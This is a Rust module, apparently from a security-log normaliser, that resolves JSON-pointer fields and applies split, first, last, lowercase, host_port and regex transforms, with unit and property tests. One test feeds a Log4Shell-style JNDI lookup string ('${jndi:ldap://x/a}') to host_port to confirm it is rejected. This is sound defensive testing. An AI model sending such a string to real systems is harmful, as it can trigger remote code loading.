//! Where a mapped field's values come from, and the transforms that shape
//! them: `split`, `first`, `last`, `lowercase`, `host_port` and `regex`.
//!
//! A field is a JSON pointer (`"/rule/id"`), or a table that names a
//! pointer or a constant `value` and an ordered list of `transforms`:
//!
//! ```toml
//! [fields.rule_uid]
//! pointer = "/properties/msg"
//! transforms = [{ regex = 'Signature: (\d+)' }]
//! ```
//!
//! Every transform works on the list of values found so far, so
//! `[{ split = "," }, "last"]` turns `"198.51.100.7, 10.0.0.2"` into
//! `["10.0.0.2"]`. A value a transform does not apply to (a `regex` that
//! does not match, a `host_port` that is not `host[:port]`) is dropped and
//! reported, naming the transform and the value.

use regex::Regex;
use serde::Deserialize;
use serde_json::Value;

use super::resolve;

/// Where the values come from.
#[derive(Debug, Clone)]
pub(super) enum Source {
    /// Every scalar at a JSON pointer (arrays flattened).
    Pointer(String),
    /// The same text for every payload.
    Constant(String),
}

/// One step applied to the values found.
#[derive(Debug, Clone)]
pub(super) enum Transform {
    /// Each value cut at a separator into several (trimmed, empty pieces
    /// dropped): lists written as text (`X-Forwarded-For`, `T1110,T1078`).
    Split(String),
    /// Only the first value.
    First,
    /// Only the last value.
    Last,
    /// Each value in lower case.
    Lowercase,
    /// The host of `host:port`, `[v6]:port`, a bare IPv6 address or a bare
    /// host.
    HostPort,
    /// The first match's group named `value`, else group 1, else the whole
    /// match.
    Regex(Regex),
}

impl Transform {
    /// How a mapping writes it, for messages.
    fn describe(&self) -> String {
        match self {
            Transform::Split(sep) => format!("split {sep:?}"),
            Transform::First => "first".into(),
            Transform::Last => "last".into(),
            Transform::Lowercase => "lowercase".into(),
            Transform::HostPort => "host_port".into(),
            Transform::Regex(regex) => format!("regex {:?}", regex.as_str()),
        }
    }

    /// Parse one entry of a `transforms` list: a name (`"first"`) or a
    /// one-key table (`{ split = "," }`).
    fn parse(value: &toml::Value) -> Result<Self, String> {
        const EXPECTED: &str = "expected \"first\", \"last\", \"lowercase\", \"host_port\", \
                                { split = \"SEP\" } or { regex = \"PATTERN\" }";
        match value {
            toml::Value::String(name) => match name.as_str() {
                "first" => Ok(Transform::First),
                "last" => Ok(Transform::Last),
                "lowercase" => Ok(Transform::Lowercase),
                "host_port" => Ok(Transform::HostPort),
                "split" | "regex" => Err(format!(
                    "transform {name:?} needs its argument: {{ {name} = \"...\" }}"
                )),
                other => Err(format!("unknown transform {other:?} ({EXPECTED})")),
            },
            toml::Value::Table(table) if table.len() == 1 => {
                let Some((key, arg)) = table.iter().next() else {
                    return Err(format!("empty transform ({EXPECTED})"));
                };
                let Some(arg) = arg.as_str() else {
                    return Err(format!("transform {key:?} takes a string, not {arg}"));
                };
                match key.as_str() {
                    "split" if arg.is_empty() => Err("split needs a separator, not \"\"".into()),
                    "split" => Ok(Transform::Split(arg.to_owned())),
                    "regex" => Regex::new(arg)
                        .map(Transform::Regex)
                        .map_err(|err| format!("regex {arg:?} does not compile: {err}")),
                    other => Err(format!("unknown transform {other:?} ({EXPECTED})")),
                }
            }
            other => Err(format!("transform {other} is not one ({EXPECTED})")),
        }
    }

    /// Apply to `values`; values it does not apply to go to `failed`.
    fn apply(&self, values: Vec<String>, failed: &mut Vec<Failure>) -> Vec<String> {
        match self {
            Transform::Split(sep) => values
                .iter()
                .flat_map(|v| v.split(sep.as_str()))
                .map(str::trim)
                .filter(|piece| !piece.is_empty())
                .map(str::to_owned)
                .collect(),
            Transform::First => values.into_iter().take(1).collect(),
            Transform::Last => values.into_iter().last().into_iter().collect(),
            Transform::Lowercase => values.iter().map(|v| v.to_lowercase()).collect(),
            Transform::HostPort | Transform::Regex(_) => values
                .into_iter()
                .filter_map(|value| {
                    let out = match self {
                        Transform::Regex(regex) => capture(regex, &value),
                        _ => host_of(&value),
                    };
                    if out.is_none() {
                        failed.push(Failure {
                            transform: self.describe(),
                            value: value.clone(),
                            no_match: matches!(self, Transform::Regex(_)),
                        });
                    }
                    out
                })
                .collect(),
        }
    }
}

/// The group named `value`, else group 1, else the whole first match.
fn capture(regex: &Regex, value: &str) -> Option<String> {
    let caps = regex.captures(value)?;
    let group = caps
        .name("value")
        .or_else(|| caps.get(1))
        .or_else(|| caps.get(0))?;
    let text = group.as_str().trim();
    (!text.is_empty()).then(|| text.to_owned())
}

/// The host of `host:port`, `host:` (an empty port, as some firewalls
/// write for ICMP), `[v6]:port`, `[v6]`, a bare IPv6 address or a bare
/// host. `None` when the value is none of these (`a:b:c` that is no IPv6
/// address, a port that is not a number, an empty host).
pub(super) fn host_of(value: &str) -> Option<String> {
    let value = value.trim();
    let port_ok = |port: &str| port.is_empty() || port.parse::<u16>().is_ok();
    let host = if let Some(rest) = value.strip_prefix('[') {
        let (host, after) = rest.split_once(']')?;
        match after {
            "" => host,
            _ => {
                let port = after.strip_prefix(':')?;
                port_ok(port).then_some(host)?
            }
        }
    } else if value.parse::<std::net::Ipv6Addr>().is_ok() {
        value
    } else {
        match value.split_once(':') {
            None => value,
            Some((host, port)) if port_ok(port) => host,
            Some(_) => return None,
        }
    };
    let host = host.trim();
    (!host.is_empty()).then(|| host.to_owned())
}

/// A value a transform did not apply to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Failure {
    /// The transform as the mapping writes it (`regex "Signature: (\d+)"`).
    pub transform: String,
    /// The value it was given.
    pub value: String,
    /// A `regex` that found nothing: the value does not hold what the
    /// field looks for (rather than holding a bad one).
    pub no_match: bool,
}

/// A field's source and transforms, checked.
#[derive(Debug, Clone)]
pub(super) struct ValueSpec {
    pub source: Source,
    pub transforms: Vec<Transform>,
}

/// What a field gave for one payload.
#[derive(Debug, Default)]
pub(super) struct Values {
    /// The values after every transform.
    pub values: Vec<String>,
    /// Values a transform did not apply to.
    pub failed: Vec<Failure>,
}

impl ValueSpec {
    /// Build from a source and the raw `transforms` list; `Err` says what
    /// is wrong (the caller adds the mapping file and the field).
    pub fn new(
        pointer: Option<String>,
        value: Option<String>,
        transforms: &[toml::Value],
    ) -> Result<Self, String> {
        let source = match (pointer, value) {
            (Some(pointer), None) => {
                if !pointer.starts_with('/') {
                    return Err(format!(
                        "{pointer:?} is not a JSON pointer (it must start with /)"
                    ));
                }
                Source::Pointer(pointer)
            }
            (None, Some(value)) => Source::Constant(value),
            (Some(_), Some(_)) => {
                return Err("give a pointer or a constant value, not both".into());
            }
            (None, None) => return Err("needs a pointer or a constant value".into()),
        };
        let transforms = transforms
            .iter()
            .map(Transform::parse)
            .collect::<Result<Vec<_>, _>>()?;
        Ok(Self { source, transforms })
    }

    /// The pointer, or the constant shown as `value "..."`, for messages.
    pub fn describe(&self) -> String {
        match &self.source {
            Source::Pointer(pointer) => pointer.clone(),
            Source::Constant(value) => format!("value {value:?}"),
        }
    }

    /// The pointer, if the values come from one.
    pub fn pointer_str(&self) -> Option<&str> {
        match &self.source {
            Source::Pointer(pointer) => Some(pointer),
            Source::Constant(_) => None,
        }
    }

    /// The values for `payload`.
    pub fn values(&self, payload: &Value) -> Values {
        let found: Vec<String> = match &self.source {
            Source::Pointer(pointer) => scalars(payload, pointer),
            Source::Constant(value) => vec![value.clone()],
        };
        let mut out = Values::default();
        let mut values = found;
        for transform in &self.transforms {
            values = transform.apply(values, &mut out.failed);
        }
        out.values = values;
        out
    }

    /// The raw (untransformed) values, for time and other typed fields
    /// that need the JSON type (a number is epoch time).
    pub fn raw(&self, payload: &Value) -> Vec<RawValue> {
        match &self.source {
            Source::Pointer(pointer) => resolve(payload, pointer)
                .into_iter()
                .flat_map(|value| match value {
                    Value::Array(items) => items.iter().collect::<Vec<_>>(),
                    other => vec![other],
                })
                .filter_map(|value| match value {
                    Value::Number(n) => n.as_f64().map(RawValue::Number),
                    other => scalar(other).map(RawValue::Text),
                })
                .collect(),
            Source::Constant(value) => vec![RawValue::Text(value.clone())],
        }
    }

    /// Whether transforms are declared.
    pub fn has_transforms(&self) -> bool {
        !self.transforms.is_empty()
    }

    /// Apply the transforms to one text value.
    pub fn transform_one(&self, value: String, failed: &mut Vec<Failure>) -> Vec<String> {
        let mut values = vec![value];
        for transform in &self.transforms {
            values = transform.apply(values, failed);
        }
        values
    }
}

/// A value as found, before transforms: a JSON number or text.
#[derive(Debug, Clone, PartialEq)]
pub(super) enum RawValue {
    Number(f64),
    Text(String),
}

/// A string, number or boolean as text (other types are not values).
pub(super) fn scalar(value: &Value) -> Option<String> {
    match value {
        Value::String(s) if !s.trim().is_empty() => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

/// Every scalar at `pointer`, flattening arrays.
pub(super) fn scalars(payload: &Value, pointer: &str) -> Vec<String> {
    resolve(payload, pointer)
        .into_iter()
        .flat_map(|value| match value {
            Value::Array(items) => items.iter().filter_map(scalar).collect::<Vec<_>>(),
            other => scalar(other).into_iter().collect(),
        })
        .collect()
}

/// A field as written in the mapping: a pointer, or a table.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct RawSpec {
    /// JSON pointer to the value.
    pub pointer: Option<String>,
    /// A constant instead of a pointer.
    pub value: Option<String>,
    /// Steps applied in order.
    #[serde(default)]
    pub transforms: Vec<toml::Value>,
    /// `fields.time` only: how the time is written.
    pub format: Option<String>,
    /// `fields.time` only: the offset of a pattern without `%z`.
    pub offset: Option<String>,
    /// `fields.time` only: `"ingest_time"` when the payload has none.
    pub default: Option<String>,
}

impl RawSpec {
    /// A field given as a bare pointer string or as a table.
    pub fn from_toml(value: &toml::Value) -> Result<Self, String> {
        match value {
            toml::Value::String(pointer) => Ok(RawSpec {
                pointer: Some(pointer.clone()),
                value: None,
                transforms: Vec::new(),
                format: None,
                offset: None,
                default: None,
            }),
            toml::Value::Table(_) => value
                .clone()
                .try_into::<RawSpec>()
                .map_err(|err| err.to_string().trim().to_owned()),
            other => Err(format!(
                "must be a JSON pointer or a table with pointer or value, not {other}"
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn spec(pointer: &str, transforms: &str) -> ValueSpec {
        let list: toml::Table = toml::from_str(&format!("t = {transforms}")).expect("a TOML list");
        let items = list
            .get("t")
            .and_then(toml::Value::as_array)
            .cloned()
            .unwrap_or_default();
        ValueSpec::new(Some(pointer.into()), None, &items).expect("a valid spec")
    }

    #[test]
    fn split_then_first_or_last() {
        let doc = json!({"xff": "198.51.100.7, 10.0.0.2 ,, 203.0.113.4"});
        assert_eq!(
            spec("/xff", r#"[{ split = "," }]"#).values(&doc).values,
            vec!["198.51.100.7", "10.0.0.2", "203.0.113.4"]
        );
        assert_eq!(
            spec("/xff", r#"[{ split = "," }, "first"]"#)
                .values(&doc)
                .values,
            vec!["198.51.100.7"]
        );
        assert_eq!(
            spec("/xff", r#"[{ split = "," }, "last"]"#)
                .values(&doc)
                .values,
            vec!["203.0.113.4"]
        );
        let none = spec("/nothing", r#"["first"]"#).values(&doc);
        assert!(none.values.is_empty() && none.failed.is_empty());
    }

    #[test]
    fn lowercase_and_constants() {
        let doc = json!({"host": "WWW.Example.COM"});
        assert_eq!(
            spec("/host", r#"["lowercase"]"#).values(&doc).values,
            vec!["www.example.com"]
        );
        let constant = ValueSpec::new(None, Some("T1190".into()), &[]).expect("spec");
        assert_eq!(constant.values(&doc).values, vec!["T1190"]);
        assert_eq!(constant.describe(), "value \"T1190\"");
    }

    #[test]
    fn host_port_takes_the_host_or_reports_the_value() {
        for (value, host) in [
            ("shop.example:8443", Some("shop.example")),
            ("shop.example", Some("shop.example")),
            ("192.0.2.1:", Some("192.0.2.1")),
            ("[2001:db8::1]:443", Some("2001:db8::1")),
            ("[2001:db8::1]", Some("2001:db8::1")),
            ("2001:db8::1", Some("2001:db8::1")),
            ("a:b:c", None),
            ("host:http", None),
            ("host:99999", None),
            (":80", None),
            ("[2001:db8::1]x", None),
        ] {
            assert_eq!(host_of(value).as_deref(), host, "{value}");
        }
        let doc = json!({"h": ["shop.example:8443", "${jndi:ldap://x/a}"]});
        let out = spec("/h", r#"["host_port"]"#).values(&doc);
        assert_eq!(out.values, vec!["shop.example"]);
        assert_eq!(
            out.failed,
            vec![Failure {
                transform: "host_port".into(),
                value: "${jndi:ldap://x/a}".into(),
                no_match: false,
            }]
        );
    }

    #[test]
    fn regex_captures_value_group_one_or_match() {
        let doc = json!({"msg": "TCP request from 192.0.2.1:5000 to 203.0.113.9:443. Action: Deny. Signature: 2028816. Priority: 1"});
        assert_eq!(
            spec("/msg", r#"[{ regex = 'Signature: (\d+)' }]"#)
                .values(&doc)
                .values,
            vec!["2028816"]
        );
        assert_eq!(
            spec(
                "/msg",
                r#"[{ regex = 'to (?P<value>\S+?)\.? ', }, "host_port"]"#
            )
            .values(&doc)
            .values,
            vec!["203.0.113.9"]
        );
        assert_eq!(
            spec("/msg", r#"[{ regex = 'Priority: \d' }]"#)
                .values(&doc)
                .values,
            vec!["Priority: 1"]
        );
        let miss = spec("/msg", r#"[{ regex = 'ThreatIntel: (.+)' }]"#).values(&doc);
        assert!(miss.values.is_empty());
        assert_eq!(miss.failed[0].transform, "regex \"ThreatIntel: (.+)\"");
        assert!(miss.failed[0].no_match);
    }

    #[test]
    fn bad_transforms_say_what_is_wrong() {
        for (list, expected) in [
            (r#"["frist"]"#, "unknown transform \"frist\""),
            (r#"["split"]"#, "needs its argument"),
            (r#"[{ split = "" }]"#, "needs a separator"),
            (r#"[{ regex = "(" }]"#, "does not compile"),
            (r#"[{ regex = 1 }]"#, "takes a string"),
            (r#"[{ upper = "x" }]"#, "unknown transform \"upper\""),
            (r#"[3]"#, "is not one"),
        ] {
            let table: toml::Table = toml::from_str(&format!("t = {list}")).expect("toml");
            let items = table
                .get("t")
                .and_then(toml::Value::as_array)
                .cloned()
                .unwrap_or_default();
            let err = ValueSpec::new(Some("/x".into()), None, &items).expect_err(list);
            assert!(err.contains(expected), "{list}: {err}");
        }
        assert!(ValueSpec::new(Some("x".into()), None, &[]).is_err());
        assert!(ValueSpec::new(None, None, &[]).is_err());
        assert!(ValueSpec::new(Some("/x".into()), Some("y".into()), &[]).is_err());
    }
}

#[cfg(test)]
mod properties {
    use proptest::prelude::*;

    use super::*;

    proptest! {
        /// `host_port` gives back the host of any `host:port`, `host:`,
        /// `[v6]:port` or bare host, and never panics on other text.
        #[test]
        fn host_port_round_trips(
            host in "[a-z0-9]([a-z0-9.-]{0,30}[a-z0-9])?",
            v6 in any::<std::net::Ipv6Addr>(),
            port in prop::option::of(any::<u16>()),
            noise in "\\PC{0,40}",
        ) {
            let port = port.map(|p| p.to_string()).unwrap_or_default();
            prop_assert_eq!(host_of(&format!("{host}:{port}")), Some(host.clone()));
            prop_assert_eq!(host_of(&host), Some(host.clone()));
            prop_assert_eq!(host_of(&format!("[{v6}]:{port}")), Some(v6.to_string()));
            prop_assert_eq!(host_of(&v6.to_string()), Some(v6.to_string()));
            let _ = host_of(&noise);
        }

        /// `split` then `first`/`last` pick the ends of the list as written.
        #[test]
        fn split_first_last_pick_the_ends(items in prop::collection::vec("[a-z0-9.]{1,12}", 1..6)) {
            let doc = serde_json::json!({"v": items.join(" , ")});
            let spec = |t: &str| {
                let list: toml::Table = toml::from_str(&format!("t = {t}")).expect("toml");
                let items = list.get("t").and_then(toml::Value::as_array).cloned().unwrap_or_default();
                ValueSpec::new(Some("/v".into()), None, &items).expect("spec")
            };
            prop_assert_eq!(spec(r#"[{ split = "," }]"#).values(&doc).values, items.clone());
            prop_assert_eq!(spec(r#"[{ split = "," }, "first"]"#).values(&doc).values, vec![items[0].clone()]);
            prop_assert_eq!(spec(r#"[{ split = "," }, "last"]"#).values(&doc).values, vec![items[items.len() - 1].clone()]);
        }
    }
}
